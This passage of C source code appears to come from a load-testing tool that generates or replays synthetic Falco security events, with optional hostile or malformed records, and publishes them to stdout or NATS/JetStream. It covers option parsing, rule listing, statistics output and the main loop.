		case O_OUT: o->out = optarg; break;
		case O_NATS: o->nats = optarg; break;
		case O_JS: o->jetstream = true; break;
		case O_STREAM: o->stream = optarg; break;
		case O_REPLAY: o->replay = optarg; break;
		case O_SIDEKICK: o->sidekick = true; break;
		case O_HOSTILE: {
			char *end;
			o->hostile_pct = strtod(optarg, &end);
			if (end == optarg || (*end && strcmp(end, "%") != 0) || o->hostile_pct < 0 || o->hostile_pct > 100)
				fatal("--hostile: want a percentage like 5%%, got %s", optarg);
			break;
		}
		case O_HOSTILE_ONLY: o->hostile_only = true; break;
		case O_SEED: o->seed = parse_u64("--seed", optarg); break;
		case O_START:
			if (parse_rfc3339(optarg, &o->start_ns) != 0)
				fatal("--start: not an RFC 3339 time: %s", optarg);
			o->start_set = true;
			break;
		case O_STEP: o->step_ns = parse_dur("--step", optarg); break;
		case O_REALTIME: o->realtime = true; break;
		case O_COUNT: o->count = parse_u64("--count", optarg), o->count_set = true; break;
		case O_RATE: {
			char *end;
			o->rate = strtod(optarg, &end);
			if (end == optarg || *end || o->rate < 0 || !isfinite(o->rate))
				fatal("--rate: bad rate %s", optarg);
			break;
		}
		case O_DURATION: o->duration_ns = parse_dur("--duration", optarg); break;
		case O_BURST: o->burst = parse_u64("--burst", optarg); break;
		case O_BURST_EVERY: o->burst_every_ns = parse_dur("--burst-every", optarg); break;
		case O_FOREVER: o->forever = true; break;
		case O_STATS: o->stats = true; break;
		case O_LIST: o->list_rules = true; break;
		case O_FLUSH: o->flush_timeout_ns = parse_dur("--flush-timeout", optarg); break;
		case O_HELP: usage(stdout); exit(0);
		default: usage(stderr); exit(2);
		}
	}
	if (optind < argc)
		fatal("unexpected argument: %s", argv[optind]);
	if (o->jetstream && !o->nats)
		fatal("--jetstream needs --nats");
	if (o->stream && !o->jetstream)
		fatal("--stream needs --jetstream");
	if ((o->burst != 0) != (o->burst_every_ns != 0))
		fatal("--burst and --burst-every go together");
	if (!o->out && !o->nats)
		o->out = "-";
	if (!o->start_set)
		o->start_ns = now_ns();
	if (!o->count_set && !o->duration_ns && !o->forever && !o->replay)
		o->count = 1000, o->count_set = true;
}

/* The rule table as TSV; hostile kinds last, with priority "*" (random). */
static void list_rules(void)
{
	struct sbuf subj = SBUF_INIT;
	printf("# %%container.info with -pk (hosts gke-prod-default-pool-*): %s\n", CONTAINER_INFO_PK);
	printf("# %%container.info otherwise: %s\n", CONTAINER_INFO_PLAIN);
	printf("# name\tpriority\tsource\tsubject\tformat\n");
	for (size_t i = 0; i < ARRAY_LEN(rules); i++) {
		const struct rule *r = &rules[i];
		subject_build(&subj, prio_name[r->prio], strlen(prio_name[r->prio]), r->name, strlen(r->name));
		printf("%s\t%s\t%s\t%s\t%s\n", r->name, prio_name[r->prio], source_name[r->src], subj.s, r->format);
	}
	for (int h = 0; h < H_COUNT; h++) {
		const char *rule = hostile[h].rule;
		if (hostile[h].malformed) {
			printf("%s\t*\tsyscall\tfalco.unknown.malformed\t-\n", rule);
			continue;
		}
		sbuf_reset(&subj);
		slug_append(&subj, rule, strlen(rule));
		printf("%s\t*\tsyscall\tfalco.*.%s\t%s\n", rule, subj.s, rules[0].format);
	}
	sbuf_free(&subj);
}

/* ------------------------------------------------------------------------ */

static void print_stats(const struct sink *s, uint64_t hostile_n, uint64_t malformed, int64_t elapsed_ns)
{
	fprintf(stderr, "published=%" PRIu64 " bytes=%" PRIu64 " min=%" PRIu64 " avg=%" PRIu64 " max=%" PRIu64
		" elapsed_ms=%" PRId64 " hostile=%" PRIu64 " malformed=%" PRIu64 " failed=%" PRIu64,
		s->published, s->bytes, s->published ? s->min : 0, s->published ? s->bytes / s->published : 0,
		s->max, elapsed_ns / 1000000, hostile_n, malformed, s->failed);
	if (s->o->jetstream)
		fprintf(stderr, " stored=%" PRIu64 " rejected=%" PRIu64, (uint64_t)atomic_load(&s->acked),
			(uint64_t)atomic_load(&s->nacked));
	fputc('\n', stderr);
}

/* Returns how many lines were malformed (not a JSON object). */
static uint64_t run_replay(const struct opts *o, struct sink *s, struct pacer *pc)
{
	FILE *in = strcmp(o->replay, "-") == 0 ? stdin : fopen(o->replay, "r");
	if (!in)
		fatal("%s: %s", o->replay, strerror(errno));
	char *line = NULL;
	size_t cap = 0;
	struct sbuf subj = SBUF_INIT, tmp = SBUF_INIT;
	uint64_t n = 0, malformed = 0;
	while (pacer_wait(pc, n)) {
		ssize_t len = getline(&line, &cap, in);
		if (len < 0) {
			if (o->forever && in != stdin && !ferror(in) && fseek(in, 0, SEEK_SET) == 0 &&
			    (len = getline(&line, &cap, in)) >= 0) {
				/* rewound */
			} else {
				break;
			}
		}
		if (len > 0 && line[len - 1] == '\n')
			len--;
		if (len > 0 && line[len - 1] == '\r')
			len--;
		if (len == 0)
			continue;
		subject_of_line(&subj, &tmp, line, (size_t)len);
		malformed += strcmp(subj.s, "falco.unknown.malformed") == 0;
		sink_emit(s, subj.s, line, (size_t)len);
		n++;
	}
	free(line);
	sbuf_free(&subj);
	sbuf_free(&tmp);
	if (in != stdin)
		fclose(in);
	return malformed;
}

int main(int argc, char **argv)
{
	struct opts o;
	parse_args(&o, argc, argv);
	tzset();

	uint64_t total = 0;
	for (size_t i = 0; i < ARRAY_LEN(rules); i++) {
		rule_compile(&rules[i]);
		total += rules[i].weight;
	}
	if (o.list_rules) {
		list_rules();
		return 0;
	}
	pool_init(o.seed);
	for (int i = 0; i < POOL_CONTAINERS; i++) /* containers started within the last week */
		containers[i].start_ts = o.start_ns - (int64_t)(((uint64_t)i * 2654435761ULL) % 604800ULL) * 1000000000LL -
					 (int64_t)(((uint64_t)i * 40503ULL) % 1000000000ULL);

	signals_init();
	struct sink sink;
	sink_open(&sink, &o);

	struct pacer pc = { .o = &o, .t0 = mono_ns() };
	pc.next_burst = pc.t0 + o.burst_every_ns;
	struct gen g;
	memset(&g, 0, sizeof(g));
	g.o = &o;
	g.total_weight = total;
	rng_seed(&g.r, o.seed);
	g.last_time = INT64_MIN;

	uint64_t replay_malformed = 0;
	if (o.replay) {
		replay_malformed = run_replay(&o, &sink, &pc);
	} else {
		uint64_t n = 0;
		while (pacer_wait(&pc, n)) {
			gen_next(&g);
			sink_emit(&sink, g.subject.s, g.line.s, g.line.len);
			n++;
		}
	}
	int64_t elapsed = mono_ns() - pc.t0;
	bool ok = sink_close(&sink);
	if (o.stats)
		print_stats(&sink, g.n_hostile, o.replay ? replay_malformed : g.n_malformed, elapsed);
	arena_reset(&g.ar);
	free(g.ar.p);
	sbuf_free(&g.msg);
	sbuf_free(&g.line);
	sbuf_free(&g.subject);
	sbuf_free(&g.tmp);
	nats_Close();
	return ok ? 0 : 1;
}
